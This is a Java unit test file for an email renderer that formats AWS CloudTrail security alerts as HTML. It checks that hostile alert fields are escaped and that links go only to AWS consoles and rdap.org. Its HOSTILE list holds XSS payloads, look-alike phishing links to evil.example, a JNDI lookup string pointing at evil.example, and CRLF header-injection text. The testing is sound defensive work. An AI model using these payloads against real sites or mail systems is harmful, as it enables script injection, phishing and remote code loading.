package rootalert.mail;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.io.ByteArrayInputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import rootalert.mail.SampleMails.Sample;

/** The body is well-formed XML, so the JDK's parser says what a browser would make of it. */
class HtmlTextTest {
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** What people have put into user agents and names, to become markup, a link, a style or the end of one. */
    private static final List<String> HOSTILE = List.of(
            "</td></table></body></html><script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' style='position:fixed;top:0' onmouseover='alert(1)",
            "<a href=\"https://evil.example/\">https://us-east-1.console.aws.amazon.com/</a>",
            "https://us-east-1.console.aws.amazon.com.evil.example/",
            "https://us-east-1.console.aws.amazon.com/\" onclick=\"alert(1)",
            "https://rdap.org/ip/203.0.113.7\"><script>alert(1)</script>",
            "https://rdap.org@evil.example/ip/1",
            "javascript:alert(1)//https://rdap.org/ip/1",
            "<!-- --> ]]> <![CDATA[ <style>*{display:none}</style> <base href=//evil.example> <meta http-equiv=refresh content=0>",
            "&lt;script&gt; &#60;script&#62; &amp;amp; &nbsp; &bogus;",
            "<svg/onload=alert(1)> <iframe srcdoc='x'> <form action=//evil.example><input autofocus onfocus=alert(1)>",
            "%s %1$s $1 \\1 {0} ${jndi:ldap://evil.example}",
            "\u202egnp.tnuocca\u202c \u2066isolated\u2069 \u200b\u200f\u00ad\ufeff",
            "\u0000\u0007\u001b[2J\r\nSubject: forged\r\n\r\nBody \u2028 \u2029 \u0085",
            "\ud800 unpaired \udfff \ufffe \uffff",
            "שלום مرحبا " + "\u0300".repeat(500),
            "A".repeat(600),
            "");

    static List<Sample> samples() {
        return SampleMails.all();
    }

    static Stream<Alert> hostile() {
        return HOSTILE.stream()
                .flatMap(text -> Stream.of("sign-in-without-mfa", "batch-storm", "report", "watch-rule-disabled")
                        .map(sample -> replaced(SampleMails.of(sample).json(), original -> text))
                        .flatMap(json -> Alert.read(json).stream()));
    }

    private static JsonNode replaced(JsonNode node, UnaryOperator<String> change) {
        if (node.isObject()) {
            var object = NODES.objectNode();
            node.forEachEntry((name, value) -> object.set(
                    name,
                    List.of("schema", "form", "if", "severity").contains(name) ? value : replaced(value, change)));
            return object;
        }
        if (node.isArray()) {
            var array = NODES.arrayNode();
            node.forEach(value -> array.add(replaced(value, change)));
            return array;
        }
        return node.isTextual() ? NODES.textNode(change.apply(node.asText())) : node;
    }

    @ParameterizedTest
    @MethodSource("samples")
    void showsEveryWord(Sample sample) throws Exception {
        var alert = sample.alert();
        var shown = body(HtmlText.of(alert, "blue heron")).getTextContent();
        assertThat(shown)
                .contains(
                        "Your phrase: blue heron",
                        alert.title(),
                        alert.summary(),
                        alert.tag().name());
        assertThat(shown).contains(alert.footer());
        for (var part : alert.parts()) {
            assertThat(part.lines())
                    .allSatisfy(line -> assertThat(shown).contains(line.label()).contains(line.text()));
        }
    }

    /** What happened, to which account, when, from where, with MFA or not, and what to do: before anything else. */
    @ParameterizedTest
    @MethodSource("samples")
    void beginsWithWhatDecides(Sample sample) throws Exception {
        var json = sample.json();
        var top = texts(body(HtmlText.of(sample.alert(), "")), "td").stream()
                .filter(text -> text.startsWith(sample.alert().tag().name()))
                .findFirst()
                .orElseThrow();
        assertThat(top).contains(sample.alert().title(), sample.alert().summary());
        if (json.at("/calls/total").asInt() == 1) {
            assertThat(top).contains("Account", "Time", "Source IP");
            assertThat(top.contains("MFA" + mfa(json.path("mfa").asText())))
                    .isEqualTo(sample.sent()
                            .email()
                            .contains("\nMFA: " + mfa(json.path("mfa").asText())));
        }
        assertThat(json.path("steps").valueStream().map(step -> step.path("do").asText()))
                .anyMatch(top::contains);
    }

    private static String mfa(String value) {
        return switch (value) {
            case "YES" -> "Yes";
            case "NO" -> "No";
            default -> "Not recorded";
        };
    }

    @ParameterizedTest
    @MethodSource("samples")
    void opensWithAPreviewForTheListOfMails(Sample sample) throws Exception {
        var first = (Element) body(HtmlText.of(sample.alert(), "")).getFirstChild();
        assertThat(first.getAttribute("style")).startsWith("display:none");
        assertThat(first.getTextContent()).isNotBlank().doesNotContain("\n");
    }

    @ParameterizedTest
    @MethodSource("samples")
    void hasItsOwnMarkupAlone(Sample sample) throws Exception {
        assertOnlyItsOwnMarkup(HtmlText.of(sample.alert(), "blue heron"));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void takesNoMarkupFromAnAlert(Alert alert) throws Exception {
        assertOnlyItsOwnMarkup(HtmlText.of(alert, alert.title()));
    }

    /** The same places hold other words, and that is all. */
    @ParameterizedTest
    @MethodSource("hostile")
    void hasTheSameElementsWhateverAnAlertSays(Alert alert) throws Exception {
        var calm = replacedAll(alert, "x");
        assertThat(elements(body(HtmlText.of(alert, "y"))).stream().map(Element::getTagName))
                .containsExactlyElementsOf(elements(body(HtmlText.of(calm, "y"))).stream()
                        .map(Element::getTagName)
                        .toList());
    }

    private static Alert replacedAll(Alert alert, String text) {
        var lengths = alert.parts().stream()
                .map(part -> new Alert.Part(
                        text,
                        part.form(),
                        part.lines().stream()
                                // At most two elements depend on the text: a long fact has a second place, a link is
                                // one.
                                .map(line -> new Alert.Line(
                                        text, line.text().length() > 56 ? text.repeat(57) : text, line.first()))
                                .toList()))
                .toList();
        return new Alert(
                alert.tag(),
                text,
                text,
                text,
                text,
                lengths,
                alert.footer().stream().map(line -> text).toList(),
                alert.advice().map(advice -> new Alert.Advice(text, text)),
                text);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void showsNothingInvisible(Alert alert) {
        assertThat(HtmlText.of(alert, ""))
                .doesNotContainPattern(
                        "[\\p{Cf}\\p{Cs}\\p{Co}\\u2028\\u2029\\u0000-\\u0009\\u000b-\\u001f\\u007f-\\u009f]");
    }

    @Test
    void linksNowhereButToConsoleAndRegistry() {
        for (var address : List.of(
                "https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/a-1",
                "https://us-gov-west-1.console.amazonaws-us-gov.com/cloudtrailv2/home?region=us-gov-west-1#/events/a-1",
                "https://cn-north-1.console.amazonaws.cn/cloudtrailv2/home?region=cn-north-1#/events/a-1",
                "https://eusc-de-east-1.console.amazonaws-eusc.eu/cloudtrailv2/home",
                "https://rdap.org/ip/2001:db8::7")) {
            assertThat(Html.link(address))
                    .hasValueSatisfying(link -> assertThat(link.toString()).startsWith("<a href=\"" + address + "\""));
        }
        for (var text : HOSTILE) {
            assertThat(Html.link(text)).isEmpty();
        }
    }

    @Test
    void writesHeadingsCalmly() throws Exception {
        assertThat(texts(body(HtmlText.of(SampleMails.of("report").alert(), "")), "h2"))
                .contains("What happened", "Why INFO", "CloudTrail's event history");
    }

    /** Gmail cuts off what is longer. */
    @ParameterizedTest
    @MethodSource("samples")
    void isShortEnoughToBeShownWhole(Sample sample) {
        assertThat(HtmlText.of(sample.alert(), "x".repeat(40)).getBytes(UTF_8)).hasSizeLessThan(HtmlText.MAX_BYTES);
    }

    @Test
    void showsAsMuchOfAHugeAlertAsThereIsRoomFor() throws Exception {
        var lines = IntStream.range(0, 400)
                .mapToObj(i -> new Alert.Line("", "<" + i + ">" + "&".repeat(500), false))
                .toList();
        var sample = SampleMails.of("sign-in-without-mfa").alert();
        var parts = new ArrayList<>(sample.parts());
        parts.add(1, new Alert.Part("MORE", Alert.Form.LIST, lines));
        var huge = new Alert(
                sample.tag(),
                sample.subject(),
                sample.title(),
                sample.account(),
                sample.summary(),
                parts,
                sample.footer(),
                sample.advice(),
                sample.thread());
        var html = HtmlText.of(huge, "");
        assertThat(html.getBytes(UTF_8)).hasSizeBetween(HtmlText.MAX_BYTES / 3, HtmlText.MAX_BYTES);
        assertThat(body(html).getTextContent())
                .contains("<0>", sample.summary(), "375 more in the plain text", "Open an AWS Support case");
        assertThat(PlainText.of(huge, "")).contains("<399>");
    }

    @ParameterizedTest
    @EnumSource
    void saysTheSeverityInWhiteOnItsColour(Tag tag) {
        double luminance = 0;
        var weights = List.of(0.2126, 0.7152, 0.0722);
        for (int i = 0; i < 3; i++) {
            double channel = Integer.parseInt(tag.colour.substring(1 + 2 * i, 3 + 2 * i), 16) / 255.0;
            luminance +=
                    weights.get(i) * (channel <= 0.04045 ? channel / 12.92 : Math.pow((channel + 0.055) / 1.055, 2.4));
        }
        assertThat(1.05 / (luminance + 0.05)).isGreaterThan(5);
    }

    private static void assertOnlyItsOwnMarkup(String html) throws Exception {
        var body = body(html);
        assertThat(elements(body))
                .extracting(Element::getTagName)
                .isSubsetOf("body div table tr td th h1 h2 p strong ul ol li code a".split(" "));
        for (var element : elements(body)) {
            for (var attribute : attributes(element)) {
                assertThat(attribute.getNodeName())
                        .isIn("class", "style", "href", "role", "width", "cellpadding", "cellspacing", "border")
                        .as("of %s", element.getTagName());
            }
        }
        assertThat(elements(body).stream().filter(element -> element.hasAttribute("href")))
                .allSatisfy(link -> assertThat(link.getAttribute("href"))
                        .isEqualTo(link.getTextContent())
                        .matches(
                                "https://([a-z0-9-]+\\.console\\.aws\\.amazon\\.com|[a-z0-9-]+\\.console\\.amazonaws-us-gov\\.com"
                                        + "|[a-z0-9-]+\\.console\\.amazonaws\\.cn|rdap\\.org)/[^\"'<>@]*"));
        assertThat(elements(body))
                .extracting(element -> element.getAttribute("style"))
                .noneMatch(style -> style.contains("url("));
        assertThat(html.substring(0, html.indexOf("<body")))
                .doesNotContain("url(", "@import", "<script", "<link", "<base", "http-equiv=\"")
                .containsOnlyOnce("</title>")
                .containsOnlyOnce("</style>");
    }

    private static List<Node> attributes(Element element) {
        return IntStream.range(0, element.getAttributes().getLength())
                .mapToObj(element.getAttributes()::item)
                .filter(attribute -> !List.of("align", "bgcolor", "scope").contains(attribute.getNodeName()))
                .toList();
    }

    private static Element body(String html) throws Exception {
        var body = html.substring(html.indexOf("<body"), html.lastIndexOf("</html>"));
        return DocumentBuilderFactory.newInstance()
                .newDocumentBuilder()
                .parse(new ByteArrayInputStream(body.getBytes(UTF_8)))
                .getDocumentElement();
    }

    private static List<String> texts(Element body, String tag) {
        return elements(body).stream()
                .filter(element -> element.getTagName().equals(tag))
                .map(Element::getTextContent)
                .toList();
    }

    private static List<Element> elements(Element body) {
        var nodes = body.getElementsByTagName("*");
        var elements = new ArrayList<Element>();
        elements.add(body);
        for (int i = 0; i < nodes.getLength(); i++) {
            elements.add((Element) nodes.item(i));
        }
        return elements;
    }
}
